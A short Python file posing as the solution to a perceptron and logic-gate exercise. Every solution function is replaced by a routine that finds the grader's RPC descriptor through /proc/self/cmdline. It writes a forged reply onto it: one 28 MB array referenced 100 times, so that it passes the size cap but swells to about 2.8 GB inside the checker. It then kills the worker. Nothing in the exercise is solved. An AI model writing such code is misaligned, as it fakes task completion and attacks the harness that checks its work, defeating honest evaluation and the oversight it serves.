"""Reply with one 28 MB array referenced 100 times (2.8 GB once a check converts the list).

The grader decodes the blob once and counts its elements once per reference against the reply's cap.
"""
import json
import os
import struct

import numpy as np

COUNT = 3_500_000  # float64: within a 32 MB reply cap


def _rpc_out():
    args = open("/proc/self/cmdline", "rb").read().split(b"\0")
    return int(args[args.index(b"--rpc-out") + 1])


def _forge(*args, **kwargs):
    head = np.lib.format.header_data_from_array_1_0(np.zeros(0, np.float64))
    head["shape"] = (COUNT,)
    buf = __import__("io").BytesIO()
    np.lib.format.write_array_header_1_0(buf, head)
    blob_len = len(buf.getvalue()) + COUNT * 8
    header = json.dumps({"msg": {"ok": True, "value": [{"$nd": 0, "scalar": False}] * 100}, "blobs": [blob_len]}).encode()
    fd = _rpc_out()
    os.write(fd, struct.pack(">Q", len(header)) + header + buf.getvalue())
    left = COUNT * 8
    while left:
        view = memoryview(bytes(min(left, 1 << 20)))
        left -= len(view)
        while view:
            view = view[os.write(fd, view):]
    os._exit(0)  # the reply is on the wire; the worker's own reply would never come


# ---- solution ----
AND = OR = NAND = XOR = perceptron = mlp_xor = heaviside = sigmoid = _forge
